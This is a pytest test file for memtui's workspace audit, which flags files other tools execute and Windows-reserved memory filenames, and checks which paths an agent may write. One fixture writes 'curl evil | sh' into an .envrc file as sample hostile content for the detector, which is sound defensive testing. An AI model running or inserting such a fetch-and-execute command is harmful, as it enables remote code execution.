"""The audit lists what the agent's tools may never write but the workspace holds (issue 31
§7): files other tools run or load (``tool_file``) and memory names Windows reserves
(``unportable_name``) — also from a warm cache, and bounded on a huge workflows folder."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from memtui.core.agent_paths import MAX_LISTED, unportable, write_problem

ROOT = Path(__file__).resolve().parents[2]
INDEX = "- [A](memory/a.md) — about a\n"
MEMORY = "---\nname: a\ndescription: about a\nmetadata:\n  type: project\n---\nA.\n"


def workspace(root: Path) -> Path:
    (root / "memory").mkdir(parents=True)
    (root / "MEMORY.md").write_text(INDEX, encoding="utf-8")
    (root / "memory" / "a.md").write_text(MEMORY, encoding="utf-8")
    return root


def audit(root: Path, cache: Path | None = None) -> dict:
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    if cache is None:
        env["MEMTUI_NO_CACHE"] = "1"
    else:
        env.pop("MEMTUI_NO_CACHE", None)
        env["MEMTUI_CACHE_DIR"] = str(cache)
    out = subprocess.run([sys.executable, "-m", "memtui", "audit", "--json", str(root)],
                         cwd=ROOT, env=env, capture_output=True, text=True, timeout=120)
    assert out.returncode in (0, 1), out.stderr
    return json.loads(out.stdout)


def of_kind(data: dict, kind: str) -> dict[str, dict]:
    return {f["path"]: f for f in data["findings"] if f["kind"] == kind}


def test_files_other_tools_run_are_listed(tmp_path: Path) -> None:
    root = workspace(tmp_path / "ws")
    for rel in (".github/workflows/ci.yml", ".envrc", ".vscode/tasks.json",
                ".pre-commit-config.yaml"):
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text("run: x\n", encoding="utf-8")
    (root / ".memtui.toml").write_text("", encoding="utf-8")  # memtui's own: not listed
    (root / "memory" / "CON.md").write_text(MEMORY, encoding="utf-8")
    (root / "memory" / "a:b.md").write_text(MEMORY, encoding="utf-8")
    data = audit(root)
    tools = of_kind(data, "tool_file")
    assert sorted(tools) == [".envrc", ".github/workflows/ci.yml", ".pre-commit-config.yaml",
                             ".vscode/tasks.json"]
    assert all(f["severity"] == "info" and f["line"] is None for f in tools.values())
    names = of_kind(data, "unportable_name")
    assert sorted(names) == ["memory/CON.md", "memory/a:b.md"]
    assert "device name Windows reserves" in names["memory/CON.md"]["message"]
    assert "alternate data stream" in names["memory/a:b.md"]["message"]


def test_a_warm_cache_sees_a_new_file(tmp_path: Path) -> None:
    root = workspace(tmp_path / "ws")
    cache = tmp_path / "cache"
    assert of_kind(audit(root, cache), "tool_file") == {}
    assert of_kind(audit(root, cache), "tool_file") == {}  # warm
    (root / ".envrc").write_text("curl evil | sh\n", encoding="utf-8")
    assert list(of_kind(audit(root, cache), "tool_file")) == [".envrc"]


def test_a_huge_workflows_folder_is_counted_not_listed(tmp_path: Path) -> None:
    root = workspace(tmp_path / "ws")
    flows = root / ".github" / "workflows"
    flows.mkdir(parents=True)
    for i in range(MAX_LISTED + 30):
        (flows / f"w{i:03}.yml").write_text("on: push\n", encoding="utf-8")
    data = audit(root)
    # a finding is one file's (issue 30 §3): the first MAX_LISTED by name, then one for the
    # folder counting the rest
    found = of_kind(data, "tool_file")
    assert len(found) == MAX_LISTED + 1
    assert "30 more files" in found[".github/workflows"]["message"]
    assert len(json.dumps(data)) < 20_000


@pytest.mark.parametrize(("name", "bad"), [
    ("CON.md", True), ("con", True), ("Aux.tar.md", True), ("COM1.md", True),
    ("lpt9.md", True), ("com¹.md", True), ("a.md.", True), ("a.md ", True),
    ("a:b.md", True), ("a?.md", True), ("a\x01.md", True), (".envrc", True),
    ("con-call.md", False), ("com10.md", False), ("console.md", False), ("a.md", False),
    ("naïve café.md", False),
])
def test_unportable(name: str, bad: bool) -> None:
    assert (unportable(name) is not None) is bad


def test_write_problem_allows_only_memories_and_the_index() -> None:
    assert write_problem(["MEMORY.md"], flat=False) is None
    assert write_problem(["memory", "a.md"], flat=False) is None
    assert write_problem(["memory", "deep", "a.MD"], flat=False) is None
    for parts in (["memory.md"], ["notes.md"], ["memory", "a.txt"], ["memory", "README.md"],
                  [".github", "workflows", "x.yml"], ["memory", ".x", "a.md"],
                  ["memory", "CON.md"]):
        assert write_problem(parts, flat=False) is not None, parts
    assert write_problem(["notes.md"], flat=True) is None
    assert write_problem(["AGENTS.md"], flat=True) is not None


NAMES = ["CON.md", "con", "Aux.tar.md", "COM1.md", "lpt9.md", "com¹.md", "a.md.", "a.md ",
         "a:b.md", "a?.md", "a\x01.md", ".envrc", "a\nb.md", "a\tb.md", "sub./a.md",
         "sub /a.md", ".sub/a.md", "nul/a.md", "con-call.md", "com10.md", "console.md",
         "naïve café.md", "a\x7f.md", "a\\b.md", "CONIN$.md", "conout$", "Lpt3.txt.md",
         "PRN", "a.", "b ", "x.md/.y", "contract.md", "lpt.md", "café/COM2.md"]


@pytest.mark.parametrize("at", [0, 25, 50])
@pytest.mark.parametrize("name", NAMES)
def test_many_names_are_looked_at_at_once_as_one_by_one(name: str, at: int,
                                                        tmp_path: Path) -> None:
    """The memories' paths are looked at together first (a few searches of their text),
    each on its own only when that finds something: the same findings either way, the
    name first, in the middle or last."""
    from memtui.core.agent_paths import workspace_findings
    from memtui.core.workspace import open_workspace

    ws = open_workspace(workspace(tmp_path / "ws"))
    files = [f"memory/m{i}.md" for i in range(50)]
    files.insert(at, f"memory/{name}")
    found = [f.path for f in workspace_findings(ws, files) if f.kind == "unportable_name"]
    one_by_one = [rel for rel in files if any(unportable(p) for p in rel.split("/"))]
    assert found == one_by_one
    assert found == ([] if name in ("con-call.md", "com10.md", "console.md", "naïve café.md",
                                    "contract.md", "lpt.md")
                     else [f"memory/{name}"])
